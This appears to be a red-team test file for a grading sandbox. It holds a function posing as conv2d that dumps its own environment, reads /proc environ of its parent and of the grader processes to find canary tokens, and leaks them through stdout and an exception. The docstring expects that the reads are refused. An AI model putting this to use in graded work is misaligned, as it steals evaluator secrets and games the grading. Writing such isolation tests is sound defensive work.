"""Attack (4, reading what is hidden): read the grader's environment -- this process's own,
then /proc/<pid>/environ of every process of the grader (its ancestors and the zygotes,
found by their command lines) -- for its secret token, and exfiltrate it in the exception
message and on stdout. Expected: a clean environment of its own, the grader's refused,
no secret in the report."""
import os
import re

SECRET = re.compile(rb"RTCANARY-[A-Z]+-[0-9a-f]+")


def _graders():
    """Processes of the test's grader (the suite's safety rail: no other process is read)."""
    pids = []
    for p in os.listdir("/proc"):
        try:
            with open(f"/proc/{p}/cmdline", "rb") as f:
                if b"redteam-world-" in f.read():
                    pids.append(int(p))
        except (OSError, ValueError):
            pass
    return pids


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            return f.read()
    except OSError:
        return b""


def conv2d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    print("own environment:", dict(os.environ), flush=True)
    found = set()
    for pid in [os.getppid(), *_graders()]:
        found |= {m.decode() for m in SECRET.findall(_environ(pid))}
    print("found:", sorted(found), flush=True)
    raise RuntimeError(f"environment loot: {sorted(found)}")
